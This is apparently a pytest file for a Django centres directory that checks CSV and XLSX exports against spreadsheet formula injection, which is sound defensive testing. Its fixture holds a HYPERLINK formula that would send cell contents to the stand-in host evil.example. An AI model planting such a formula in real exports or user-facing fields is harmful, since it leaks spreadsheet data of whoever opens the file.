"""No download of the site carries a live spreadsheet formula, whatever staff typed into a field.

A centre editor can name their centre `=HYPERLINK("http://evil.example/?d="&B2,"Mehr")`; a
funder opening the Bezirk's export must see that text, not a link that sends cell B2 away.
"""

import csv
import io

import pytest
import tablib
from django.urls import reverse
from import_export.formats.base_formats import XLSX
from openpyxl import load_workbook

from centres.models import Centre, Offering
from centres.spreadsheets import formula_neutralised, formula_restored
from centres.staff.imports import centres_import
from centres.staff.resources import CentreResource, OfferingResource, SiteResource

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Mehr")'
RESOURCES = {"centre": CentreResource, "offering": OfferingResource, "site": SiteResource}
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # the order of `formats` in centres/admin.py


@pytest.fixture
def evil_centre(make_centre, make_offering):
    centre = make_centre("neukoelln", name=EVIL, slug="boese", description="+49 ruft an")
    make_offering(centre, title="@Kurs", slug="at-kurs", description="-\tListe")
    return centre


def csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8").removeprefix("\ufeff")
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def admin_export(client, model: str, file_format: str) -> bytes:
    names = RESOURCES[model]._meta.fields
    data = {
        "format": file_format,
        "resource": "0",
        **{f"{model}resource_{name}": "on" for name in names},
    }
    response = client.post(reverse(f"admin:centres_{model}_export"), data)
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize(
    "text",
    [EVIL, "+SUM(1+1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "==1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert formula_neutralised(text) == "'" + text
    assert formula_restored(formula_neutralised(text)) == text


@pytest.mark.parametrize("value", ["Haus am Markt", "-3", "+49", "12,5", 7, -7, None, ""])
def test_plain_text_and_numbers_stay_as_they_are(value):
    assert formula_neutralised(value) == value
    assert formula_restored(value) == value


def test_a_leading_apostrophe_of_ordinary_text_survives_an_import():
    assert formula_restored("'s Eck") == "'s Eck"


def test_bezirk_csv_shows_the_formula_as_text(client, evil_centre):
    response = client.get("/uebersicht/neukoelln/export.csv")

    rows = csv_rows(response.content)
    assert [row[0] for row in rows[1:]] == ["'" + EVIL]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_bezirk_xlsx_holds_the_formula_as_a_text_cell_and_counts_as_numbers(client, evil_centre):
    response = client.get("/uebersicht/neukoelln/export.xlsx")

    cells = xlsx_cells(response.content)
    name = next(cell for cell in cells if cell.value == EVIL)
    assert name.data_type == "s"
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in cells if cell.row == 1]
    offerings = cells[len(header) + header.index("Angebote")]
    assert offerings.value == 1
    assert offerings.data_type == "n"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_city_exports_hold_no_formula(client, evil_centre, export_format):
    response = client.get(f"/uebersicht/export.{export_format}")

    assert response.status_code == 200
    if export_format == "xlsx":
        assert not [cell for cell in xlsx_cells(response.content) if cell.data_type == "f"]
    else:
        rows = csv_rows(response.content)
        assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("model", ["centre", "offering", "site"])
def test_admin_xlsx_export_holds_no_formula(client, team, evil_centre, model):
    client.force_login(team)

    cells = xlsx_cells(admin_export(client, model, XLSX_FORMAT))

    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert not {text for text in texts if text.startswith(("=", "+", "-", "@", "\t"))}
    if model == "centre":
        assert "'" + EVIL in texts
        assert "'+49 ruft an" in texts
    if model == "offering":
        assert {"'@Kurs", "'-\tListe"} <= texts


@pytest.mark.parametrize("model", ["centre", "offering", "site"])
def test_admin_csv_export_holds_no_formula(client, team, evil_centre, model):
    client.force_login(team)

    rows = csv_rows(admin_export(client, model, CSV_FORMAT))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
    assert ("'" + EVIL in cells) is (model != "offering")  # sites are named after the centre


def test_admin_xlsx_export_keeps_coordinates_as_numbers(client, team, evil_centre):
    site = evil_centre.main_site
    site.latitude, site.longitude = 52.48, 13.43
    site.save()
    client.force_login(team)

    dataset = XLSX().create_dataset(admin_export(client, "centre", XLSX_FORMAT))

    row = dataset.dict[0]
    assert isinstance(row["breitengrad"], float | int)
    assert row["name"] == "'" + EVIL


def test_reimporting_an_export_with_neutralised_cells_changes_nothing(client, team, evil_centre):
    client.force_login(team)
    for model in ("centre", "offering"):
        content = admin_export(client, model, XLSX_FORMAT)
        summary = centres_import(dataset=XLSX().create_dataset(content), user=team)
        assert summary.ok, summary.errors
        assert (summary.new, summary.updated) == (0, 0)
    assert Centre.objects.get(slug="boese").name == EVIL
    assert Offering.objects.get(slug="at-kurs").title == "@Kurs"


def test_an_imported_apostrophe_before_a_formula_is_taken_off(team, evil_centre):
    content = tablib.Dataset(headers=["kurzname", "name"])
    content.append(["boese", "'=1+1"])

    summary = centres_import(dataset=content, user=team)

    assert summary.ok, summary.errors
    assert Centre.objects.get(slug="boese").name == "=1+1"
